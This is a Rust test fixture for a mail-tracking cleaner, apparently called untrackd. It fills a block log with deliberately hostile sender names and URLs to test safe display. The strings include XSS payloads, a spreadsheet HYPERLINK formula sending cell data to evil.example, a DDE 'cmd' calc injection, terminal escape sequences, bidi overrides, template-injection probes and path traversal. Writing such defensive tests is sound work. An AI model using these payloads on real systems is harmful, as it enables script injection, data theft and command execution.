//! A block log whose every text comes from somebody who means harm.

#![allow(dead_code, reason = "each test file uses a part of it")]

use std::{
    path::Path,
    sync::Arc,
    time::{Duration, SystemTime},
};
use untrackd::{
    clean::{Finding, Outcome},
    judge::{Action, Disclosure, Evidence, Verdict},
    rules::{Category, RuleRef, Tells, Vendor},
    sighting::Vector,
    telemetry::{Disposition, Event, Record, Recorder, Settings, Transaction},
    url::{Target, decode::Destination},
};

/// What would do harm if it were shown as it is: markup, a formula, quotes,
/// an escape sequence, text that runs backwards, and length.
pub(crate) fn names() -> Vec<String> {
    vec![
        "<script>document.title='owned'</script>".to_owned(),
        "\"><img src=x onerror=\"document.title='owned'\">".to_owned(),
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")".to_owned(),
        "@SUM(1+1)*cmd|' /C calc'!A0".to_owned(),
        "it's \"quoted\", with comma; and\ttab".to_owned(),
        "\u{1b}]0;owned\u{7}\u{1b}[2J\u{9b}31mred".to_owned(),
        "Exam\u{202e}elpmaxe\u{2066}\u{200f} Inc".to_owned(),
        "line\r\nbreak\u{2028}and\u{85}more".to_owned(),
        "{{7*7}}${7*7}<%= 7*7 %>".to_owned(),
        "/../..//?q=a&b#c%2f%00".to_owned(),
        "long ".repeat(2_000),
    ]
}

/// URLs whose hosts and parameter names mean harm.
const URLS: &[&str] = &[
    "https://xn--80ak6aa92e.example.org/open?<script>alert(1)</script>=1",
    "https://t.example.org/\u{202e}gpj/=cmd?\u{1b}[31m=1&\"onload=\"=2",
    "https://a--b.example.org/javascript:alert(1)/<svg onload=alert(1)>?%3Cb%3E=1",
];

/// Records a message for each name, of the last hours, and one with ordinary
/// values.
pub(crate) fn record(database: &Path, keys: &Path) {
    let settings = Settings {
        path: database.to_owned(),
        keys: keys.to_owned(),
        ..Settings::default()
    };
    let recorder = Recorder::start(&settings).unwrap();
    for (n, name) in (0..).zip(names()) {
        recorder.record(event(n, &name));
    }
    recorder.record(event(99, "Example Inc"));
    assert!(recorder.stop(Duration::from_secs(30)));
}

fn event(n: u64, name: &str) -> Event {
    let mut findings: Vec<Finding> = URLS
        .iter()
        .map(|url| finding(name, Vector::ImgSrc, url, Action::Neutralize))
        .collect();
    let to = Target::parse("https://shop.example.net/").unwrap();
    let unwrap = Action::Unwrap(Destination {
        text: to.as_str().to_owned(),
        target: to,
    });
    let click = "https://click.example.org/ls/click?upn=u001";
    findings.push(finding(name, Vector::AHref, click, unwrap));
    Event {
        at: SystemTime::now() - Duration::from_secs(60 * n),
        transaction: Transaction {
            queue_id: Some(format!("4HOSTILE{n}{name}")),
            message_id: Some(format!("{n}-{name}@mail.example.org")),
            sender: format!("{name}@news.example.org"),
            from_domain: Some(format!("{name}.example.org")),
            recipients: vec!["jane.doe@example.com".to_owned()],
            client: Some([192, 0, 2, 7].into()),
        },
        disposition: Disposition::Changed,
        outcome: Outcome {
            findings,
            parts: 2,
            html_parts: 1,
            ..Outcome::default()
        },
        size_before: 2_000,
        size_after: 1_800,
        duration: Duration::from_micros(700),
        rules_version: format!("1{name}"),
    }
}

fn finding(name: &str, vector: Vector, url: &str, action: Action) -> Finding {
    Finding {
        part: "1.2".to_owned(),
        vector,
        url: Some(Target::parse(url).unwrap()),
        verdict: Verdict {
            action,
            rules: vec![RuleRef {
                id: Arc::from("example-open"),
                vendor: Arc::new(Vendor {
                    id: "example-mail".to_owned(),
                    name: name.to_owned(),
                    company: name.to_owned(),
                    category: Category::Mail,
                }),
                tells: Arc::from([Tells::Recipient]),
            }],
            evidence: vec![Evidence {
                kind: "rule",
                weight: 100,
                detail: name.to_owned().into(),
            }],
            score: 100,
            notable: true,
            discloses: [Disclosure::Recipient].into(),
            ..Verdict::default()
        },
        facts: None,
    }
}

/// Panics if a text holds what could control a terminal, or reverse the
/// reading direction.
pub(crate) fn assert_harmless(what: &str, text: &str) {
    let found = text
        .char_indices()
        .find(|(_, c)| *c != '\n' && untrackd::visible::is_control(*c));
    assert_eq!(found, None, "{what}");
}
